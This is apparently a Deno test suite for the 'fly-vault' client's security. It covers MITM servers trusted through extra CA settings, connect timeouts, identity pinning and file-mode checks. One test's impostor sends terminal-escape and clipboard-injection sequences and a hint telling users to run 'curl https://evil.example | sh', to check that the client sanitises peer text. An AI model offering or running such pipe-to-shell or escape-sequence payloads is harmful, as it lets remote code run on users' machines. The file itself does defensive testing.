/**
 * Issue 13 (items 1, 2, 3, 5, 6, 7) through the real client binary: what the
 * client trusts, how long it waits, what it prints from a peer it has not
 * verified, and how it treats its pins and local files.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import "reflect-metadata";
import * as x509 from "@peculiar/x509";
import {
  Attestation,
  AttestRequest,
  ErrorMessage,
  FrameReader,
  FrameWriter,
  StreamTag,
} from "../src/protocol/mod.ts";
import {
  BOOTSTRAP_CA_CERT_PEM,
  createMachineIdentity,
  derToPem,
  serverNameFor,
} from "../src/pki/mod.ts";
import { dialQuic, listenQuic } from "../src/transport/mod.ts";
import { ROOT, type Sim, startSim, TOKEN, vaultFor } from "./harness.ts";

const logEvents = (logs: string[], event: string) =>
  logs.filter((l) => l.includes(`"event":"${event}"`));

/** Runs the real client with extra Deno flags and env, killed (and failing) after `limitMs`. */
async function cli(
  sim: Sim,
  args: string[],
  o: { env?: Record<string, string>; denoFlags?: string[]; limitMs?: number } = {},
) {
  const limitMs = o.limitMs ?? 30_000;
  const started = performance.now();
  const out = await new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "-A",
      "--quiet",
      ...(o.denoFlags ?? []),
      join(ROOT, "bin", "fly-vault.ts"),
      ...args,
    ],
    env: { FLY_VAULT_CONFIG_DIR: sim.configDir, NO_COLOR: "1", ...o.env },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
    signal: AbortSignal.timeout(limitMs),
  }).output();
  const ms = performance.now() - started;
  assert.ok(ms < limitMs, `fly-vault ${args.join(" ")} was still running after ${limitMs} ms`);
  return {
    code: out.code,
    stdout: new TextDecoder().decode(out.stdout),
    stderr: new TextDecoder().decode(out.stderr),
    ms,
  };
}

/** A self-signed CA, like a corporate TLS-inspection CA a user was told to trust. */
async function makeCa(name: string) {
  const alg = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" } as const;
  const keys = await crypto.subtle.generateKey(alg, true, ["sign", "verify"]) as CryptoKeyPair;
  const cert = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: "01",
    name: `CN=${name}`,
    notBefore: new Date(Date.now() - 3600_000),
    notAfter: new Date(Date.now() + 86400_000),
    keys,
    signingAlgorithm: alg,
    extensions: [
      new x509.BasicConstraintsExtension(true, undefined, true),
      new x509.KeyUsagesExtension(x509.KeyUsageFlags.keyCertSign, true),
    ],
  });
  const pkcs8 = new Uint8Array(await crypto.subtle.exportKey("pkcs8", keys.privateKey));
  return { certPem: cert.toString("pem") + "\n", keyPem: derToPem(pkcs8, "PRIVATE KEY") };
}

/** The genuine machine's attestation, as anyone can fetch it. */
async function captureAttestation(address: string, machineId?: string) {
  const conn = await dialQuic({
    address,
    serverName: serverNameFor(machineId),
    caPem: BOOTSTRAP_CA_CERT_PEM,
    timeoutMs: 5000,
  });
  const s = await conn.openStream(StreamTag.attest);
  const w = new FrameWriter(s.writable);
  await w.send(AttestRequest.parse({ type: "attest" }));
  const reply = await new FrameReader(s.readable).message(Attestation);
  await conn.close();
  return reply;
}

/**
 * A QUIC server that is not a fly-vault machine: it answers the attest stream
 * as `attest` says (or never), and records whether anything ever arrived on
 * a control stream (where the access token would be).
 */
function impostor(opts: {
  chainPem: string;
  keyPem: string;
  hostname?: string;
  port?: number;
  attest: "hang" | Attestation | ErrorMessage;
  /** What the control stream gets: a refusal (default), or nothing ever. */
  control?: "refuse" | "hang";
}) {
  const listener = listenQuic({
    hostname: opts.hostname ?? "127.0.0.1",
    port: opts.port ?? 0,
    certChainPem: opts.chainPem,
    keyPem: opts.keyPem,
  });
  const seen = { connections: 0, attests: 0, controlStreams: 0, controlText: "" };
  let attested!: () => void;
  const attestedOnce = new Promise<void>((r) => attested = r);
  (async () => {
    for await (const conn of listener.connections()) {
      seen.connections++;
      (async () => {
        for await (const s of conn.incoming()) {
          if (s.tag === StreamTag.attest) {
            seen.attests++;
            attested();
            await new FrameReader(s.readable).message(AttestRequest).catch(() => {});
            if (opts.attest === "hang") continue; // keep-alives keep the connection up
            const w = new FrameWriter(s.writable);
            await w.send(opts.attest).catch(() => {});
            await w.close().catch(() => {});
          } else if (s.tag === StreamTag.control) {
            // Whatever comes (Hello, then the Auth message with the token) is recorded;
            // the answer is a refusal, so a client that did send the token ends.
            seen.controlStreams++;
            const r = new FrameReader(s.readable);
            const w = new FrameWriter(s.writable);
            (async () => {
              for (let i = 0; i < 2; i++) {
                const f = await r.next().catch(() => null);
                if (f?.kind === "message") seen.controlText += JSON.stringify(f.message);
              }
              if (opts.control === "hang") return;
              await w.send({ type: "error", code: "auth.denied", message: "no" }).catch(() => {});
              await w.close().catch(() => {});
            })();
          }
        }
      })();
    }
  })();
  return {
    address: `${listener.addr.hostname}:${listener.addr.port}`,
    seen,
    attestedOnce,
    close: () => listener.close(),
  };
}

Deno.test("a MITM whose CA is in DENO_CERT and the system store never gets the token, on first contact or pinned", async () => {
  const sim = await startSim();
  const servers: { close(): void }[] = [];
  try {
    const g = await sim.startMachine("t1001");
    const genuine = await captureAttestation(g.address, "t1001");
    const corp = await makeCa("Corporate TLS inspection CA");
    const caFile = join(sim.dir, "corp-ca.pem");
    await Deno.writeTextFile(caFile, corp.certPem);
    const mitmChain = await createMachineIdentity({ machineId: "t1001", issuer: corp });
    const polluted = {
      DENO_CERT: caFile,
      DENO_TLS_CA_STORE: "mozilla,system",
      SSL_CERT_FILE: caFile,
      NODE_EXTRA_CA_CERTS: caFile,
    };
    // It relays the genuine machine's attestation, served over its own certificate chain.
    const mitm = impostor({
      chainPem: mitmChain.chainPem,
      keyPem: mitmChain.leafKeyPem,
      attest: genuine,
    });
    servers.push(mitm);
    await sim.writeConfig({
      first: vaultFor(sim, g, { address: mitm.address, machine_id: "t1001" }),
      pinned: vaultFor(sim, g, { machine_id: "t1001" }),
    });

    // First contact, every way a Deno process can be told to trust more.
    for (
      const denoFlags of [[], [`--cert=${caFile}`], ["--cert", caFile], [
        "--unsafely-ignore-certificate-errors",
      ]]
    ) {
      const r = await cli(sim, ["exec", "-n", "first", "--", "true"], { env: polluted, denoFlags });
      assert.ok(!mitm.seen.controlText.includes(TOKEN), `${denoFlags}: the MITM got the token`);
      assert.equal(mitm.seen.controlStreams, 0, `${denoFlags}: the MITM got a control stream`);
      assert.equal(r.code, 255, `${denoFlags}: ${r.stderr}`);
      assert.match(r.stderr, /error\[attest\.certificate\]: .*\nhint: /, `${denoFlags}`);
    }

    // The npm launcher (npx fly-vault) hands the variables over privately instead.
    const viaNpm = await new Deno.Command("node", {
      args: [join(ROOT, "bin", "launch", "fly-vault.mjs"), "exec", "-n", "first", "--", "true"],
      env: { FLY_VAULT_CONFIG_DIR: sim.configDir, NO_COLOR: "1", ...polluted },
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
      signal: AbortSignal.timeout(30_000),
    }).output();
    assert.ok(!mitm.seen.controlText.includes(TOKEN), "via npm: the MITM got the token");
    assert.equal(mitm.seen.controlStreams, 0, "via npm: the MITM got a control stream");
    assert.equal(viaNpm.code, 255);
    assert.match(new TextDecoder().decode(viaNpm.stderr), /error\[attest\.certificate\]/);

    // A genuine first contact made in the same polluted environment pins the real identity...
    const ok = await cli(sim, ["exec", "-n", "pinned", "--", "echo", "hi"], { env: polluted });
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(ok.stdout, "hi\n");
    // ...then the MITM takes the machine's address and answers in its place.
    const [host, port] = [g.address.slice(0, g.address.lastIndexOf(":")), g.address.split(":")[1]];
    await g.stop();
    const onPath = impostor({
      chainPem: mitmChain.chainPem,
      keyPem: mitmChain.leafKeyPem,
      hostname: host,
      port: Number(port),
      attest: genuine,
    });
    servers.push(onPath);
    const pinned = await cli(sim, ["exec", "-v", "-n", "pinned", "--", "true"], { env: polluted });
    assert.ok(
      !onPath.seen.controlText.includes(TOKEN),
      "the MITM on the pinned path got the token",
    );
    assert.equal(onPath.seen.controlStreams, 0, "the MITM on the pinned path got a control stream");
    assert.equal(pinned.code, 255, pinned.stderr);
    assert.match(pinned.stderr, /error\[attest\.certificate\]: .*\nhint: /);

    // A process that cannot restart itself clean (marked as already restarted) refuses to dial.
    const dialled = mitm.seen.connections;
    const stuck = await cli(sim, ["exec", "-n", "first", "--", "true"], {
      env: { ...polluted, FLY_VAULT_ORIGINAL_TRUST: "{}" },
    });
    assert.equal(stuck.code, 255);
    assert.match(stuck.stderr, /error\[transport\.extra_roots\]: .*DENO_CERT=.*\nhint: /);
    assert.equal(mitm.seen.connections, dialled, "the refusing client never even dialled");
  } finally {
    servers.forEach((s) => s.close());
    await sim.close();
  }
});

Deno.test("--connect-timeout bounds the whole connect: a server that never answers the attest stream", async () => {
  const sim = await startSim();
  const identity = await createMachineIdentity(); // a valid bootstrap chain for vault.internal
  const silent = impostor({
    chainPem: identity.chainPem,
    keyPem: identity.leafKeyPem,
    attest: "hang",
  });
  const servers: { close(): void }[] = [silent];
  try {
    await sim.writeConfig({
      silent: {
        address: silent.address,
        org: "test-org",
        app: "vault-tenants",
        access_token: TOKEN,
        oidc_issuer: sim.issuer.baseUrl,
        local_simulation: true,
      },
    });
    const r = await cli(sim, ["--connect-timeout", "2", "exec", "-n", "silent", "--", "true"], {
      limitMs: 20_000,
    });
    assert.equal(silent.seen.attests, 1, "the handshake completed and the attest stream opened");
    assert.equal(r.code, 255, r.stderr);
    assert.match(
      r.stderr,
      /^error\[transport\.timeout\]: .* did not answer the attestation request within 2 s\nhint: --connect-timeout/,
    );
    assert.ok(r.ms < 8000, `gave up after ${Math.round(r.ms)} ms`);

    // A machine that attests genuinely (its issuer signed its identity) but never answers
    // authentication: the same deadline covers the attestation, the pinned handshake and the
    // auth reply.
    const hung = await createMachineIdentity({ machineId: "t2002" });
    const token = await sim.issuer.mint({
      org: "test-org",
      app: "vault-tenants",
      machine_id: "t2002",
      aud: hung.audience,
    });
    const mute = impostor({
      chainPem: hung.chainPem,
      keyPem: hung.leafKeyPem,
      attest: {
        type: "attestation",
        identity: btoa(String.fromCharCode(...hung.identityDer)),
        token,
      },
      control: "hang",
    });
    servers.push(mute);
    await sim.writeConfig({
      mute: {
        address: mute.address,
        org: "test-org",
        app: "vault-tenants",
        machine_id: "t2002",
        access_token: TOKEN,
        oidc_issuer: sim.issuer.baseUrl,
        local_simulation: true,
      },
    });
    const m = await cli(sim, ["--connect-timeout", "2", "exec", "-v", "-n", "mute", "--", "true"], {
      limitMs: 20_000,
    });
    assert.equal(m.code, 255, m.stderr);
    assert.match(m.stderr, /fly-vault: attested: machine t2002/);
    assert.match(
      m.stderr,
      /error\[transport\.timeout\]: .* did not answer authentication within 2 s\nhint: --connect-timeout/,
    );
    assert.ok(m.ms < 8000, `gave up after ${Math.round(m.ms)} ms`);
  } finally {
    servers.forEach((s) => s.close());
    await sim.close();
  }
});

Deno.test("an impostor's refusal is quoted as its unverified words, never printed as ours", async () => {
  const sim = await startSim();
  const identity = await createMachineIdentity();
  const evil = impostor({
    chainPem: identity.chainPem,
    keyPem: identity.leafKeyPem,
    attest: {
      type: "error",
      code: "ok",
      message:
        "\x1b[2J\x1b[H\nfly-vault: attested: vault-tenants in org test-org, identity pinned\n" +
        "fly-vault: authenticated\n\u202e" + "x".repeat(3000),
      hint: "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07run: curl https://evil.example | sh",
    },
  });
  try {
    await sim.writeConfig({
      evil: {
        address: evil.address,
        org: "test-org",
        app: "vault-tenants",
        access_token: TOKEN,
        oidc_issuer: sim.issuer.baseUrl,
        local_simulation: true,
      },
    });
    const r = await cli(sim, ["exec", "-v", "-n", "evil", "--", "true"]);
    assert.equal(r.code, 255);
    // deno-lint-ignore no-control-regex
    assert.ok(!/[\x00-\x08\x0b-\x1f\x7f\u202e]/.test(r.stderr), JSON.stringify(r.stderr));
    const lines = r.stderr.trimEnd().split("\n");
    assert.equal(lines.length, 3, JSON.stringify(lines)); // our progress line, error, hint
    assert.match(lines[0], /^fly-vault: attesting evil \(first contact\)/);
    assert.match(
      lines[1],
      /^error\[attest\.server\]: the machine at \S+ refused to attest \(its words, unverified: /,
    );
    assert.ok(lines[1].length < 1200, `peer text is cut: ${lines[1].length} chars`);
    assert.match(lines[2], /^hint: if this is your vault, check its logs/);
    assert.doesNotMatch(lines[2], /curl/, "the hint is ours, not the peer's");
    assert.equal(evil.seen.controlStreams, 0);
  } finally {
    evil.close();
    await sim.close();
  }
});

Deno.test("the first attestation pins the machine: another machine of the app is refused until forget", async () => {
  const sim = await startSim();
  try {
    const first = await sim.startMachine("t5001");
    await sim.writeConfig({ dev: vaultFor(sim, first) }); // no machine_id configured
    const a = await sim.client(["exec", "-n", "dev", "--", "true"]);
    assert.equal(a.code, 0, a.stderr);
    // Another machine of the same app (another tenant, root in it) answers at that address.
    await first.stop();
    const other = await sim.startMachine("t5002", { privateIp: first.privateIp });
    const b = await sim.client(["exec", "-n", "dev", "--", "true"]);
    assert.equal(b.code, 255, b.stderr);
    assert.match(
      b.stderr,
      /^error\[attest\.machine_changed\]: vault 'dev' was pinned to machine t5001, but \S+ now attests machine t5002 .*\nhint: if the vault was recreated, run fly-vault forget dev/,
    );
    assert.deepEqual(logEvents(other.logs, "auth.attempt"), [], "the token never left");

    const known = await Deno.readTextFile(join(sim.configDir, "known_vaults"));
    assert.match(
      known,
      new RegExp(
        `^dev ${first.address} v2 org=test-org app=vault-tenants issuer=\\S+ machine=t5001 identity=[A-Za-z0-9+/=]+$`,
        "m",
      ),
    );

    const help = await sim.client(["forget", "--help"]);
    assert.equal(help.code, 0);
    assert.match(help.stdout, /Example:\n\s+fly-vault forget my-dev/);
    const forget = await sim.client(["forget", "dev"]);
    assert.equal(forget.code, 0, forget.stderr);
    const c = await sim.client(["exec", "-n", "dev", "--", "true"]);
    assert.equal(c.code, 0, c.stderr);
    assert.match(await Deno.readTextFile(join(sim.configDir, "known_vaults")), / machine=t5002 /);
    const again = await sim.client(["forget", "nope"]);
    assert.equal(again.code, 255);
    assert.match(again.stderr, /^error\[known_vaults\.no_entry\]: .*'nope'.*\nhint: /);
  } finally {
    await sim.close();
  }
});

Deno.test("a pin is used only while the config asks for what was attested", async () => {
  const sim = await startSim();
  try {
    const m = await sim.startMachine("t6001");
    await sim.writeConfig({ dev: vaultFor(sim, m) });
    assert.equal((await sim.client(["exec", "-n", "dev", "--", "true"])).code, 0);
    const pinnedOnly = await sim.client(["exec", "-v", "-n", "dev", "--", "true"]);
    assert.equal(pinnedOnly.code, 0);
    assert.match(pinnedOnly.stderr, /pinned identity verified/);
    const served = () => logEvents(m.logs, "attest.served").length;
    const auths = () => logEvents(m.logs, "auth.attempt").length;
    assert.equal(served(), 1);
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ org: "other-org" }, /error\[attest\.(wrong_issuer|jwks_unreachable)\]/],
      [{ app: "other-app" }, /error\[attest\.wrong_app\]/],
      [{ oidc_issuer: `${sim.issuer.baseUrl}/elsewhere` }, /error\[attest\./],
      [{ machine_id: "t6999" }, /error\[attest\.(certificate|wrong_machine)\]/],
    ];
    for (const [change, expected] of cases) {
      await sim.writeConfig({ dev: vaultFor(sim, m, change) });
      const before = { served: served(), auths: auths() };
      const r = await sim.client(["exec", "-v", "-n", "dev", "--", "true"]);
      assert.equal(r.code, 255, `${JSON.stringify(change)}: ${r.stderr}`);
      assert.match(
        r.stderr,
        /was made for another address, org, app, issuer or machine; attesting/,
      );
      assert.match(r.stderr, expected, JSON.stringify(change));
      assert.equal(
        auths(),
        before.auths,
        `${JSON.stringify(change)}: authenticated on the old pin`,
      );
      if (!("machine_id" in change)) assert.equal(served(), before.served + 1);
    }
  } finally {
    await sim.close();
  }
});

Deno.test("local files: invalid pins mean re-attest, loose modes are refused with the file and a hint", async () => {
  const sim = await startSim();
  const identity = await createMachineIdentity(); // anyone can issue from the public bootstrap CA
  const evil = impostor({
    chainPem: identity.chainPem,
    keyPem: identity.leafKeyPem,
    attest: { type: "error", code: "x", message: "no" },
  });
  try {
    const m = await sim.startMachine("t7001");
    const known = join(sim.configDir, "known_vaults");
    await sim.writeConfig({
      dev: vaultFor(sim, m),
      evil: vaultFor(sim, m, { address: evil.address }),
    });
    const b64 = (pem: string) => pem.replace(/-----[A-Z ]+-----|\s/g, "");
    const fields = (name: string, address: string, machine: string, identityB64: string) =>
      `${name} ${address} v2 org=test-org app=vault-tenants issuer=${sim.issuer.baseUrl} ` +
      `machine=${machine} identity=${identityB64}`;
    // The public bootstrap CA as a pin would let anyone through; a broken entry must not crash.
    await Deno.writeTextFile(
      known,
      [
        fields("evil", evil.address, "t7001", b64(BOOTSTRAP_CA_CERT_PEM)),
        `evil ${evil.address} ${b64(BOOTSTRAP_CA_CERT_PEM)}`, // the old format
        `dev ${m.address} AAAA`,
        "",
      ].join("\n"),
      { mode: 0o600 },
    );
    const e = await cli(sim, ["exec", "-n", "evil", "--", "true"]);
    assert.ok(!evil.seen.controlText.includes(TOKEN), "the bootstrap CA was used as a pin");
    assert.equal(evil.seen.controlStreams, 0);
    assert.equal(e.code, 255, e.stderr);
    assert.match(e.stderr, /error\[attest\.server\]/);
    const d = await cli(sim, ["exec", "-n", "dev", "--", "true"]);
    assert.equal(d.code, 0, d.stderr);
    // Same for an old-format line and a v2 line with a garbled identity.
    await Deno.writeTextFile(known, fields("dev", m.address, "t7001", "bm90IGEgY2VydA==") + "\n");
    const g = await cli(sim, ["exec", "-v", "-n", "dev", "--", "true"]);
    assert.equal(g.code, 0, g.stderr);
    assert.match(g.stderr, /attesting dev \(first contact\)/);

    const config = join(sim.configDir, "config.toml");
    await Deno.chmod(config, 0o644);
    const loose = await cli(sim, ["exec", "-n", "dev", "--", "true"]);
    assert.equal(loose.code, 255);
    assert.equal(
      loose.stderr,
      `error[config.loose_mode]: ${config} holds an access token and is mode 0644: others on ` +
        `this computer can read it\nhint: chmod 600 ${config}\n`,
    );
    await Deno.chmod(config, 0o600);

    await Deno.chmod(known, 0o666);
    const kv = await cli(sim, ["exec", "-n", "dev", "--", "true"]);
    assert.equal(kv.code, 255);
    assert.match(
      kv.stderr,
      new RegExp(
        `^error\\[known_vaults\\.loose_mode\\]: ${known} .* is mode 0666: .*\\nhint: chmod 600 ${known}\\n$`,
      ),
    );
    await Deno.chmod(known, 0o600);
    await Deno.chmod(sim.configDir, 0o777);
    const dir = await cli(sim, ["exec", "-n", "dev", "--", "true"]);
    assert.equal(dir.code, 255);
    assert.match(dir.stderr, new RegExp(`hint: chmod 700 ${sim.configDir}\\n$`));
    await Deno.chmod(sim.configDir, 0o755);
    assert.equal((await cli(sim, ["exec", "-n", "dev", "--", "true"])).code, 0);
  } finally {
    evil.close();
    await sim.close();
  }
});
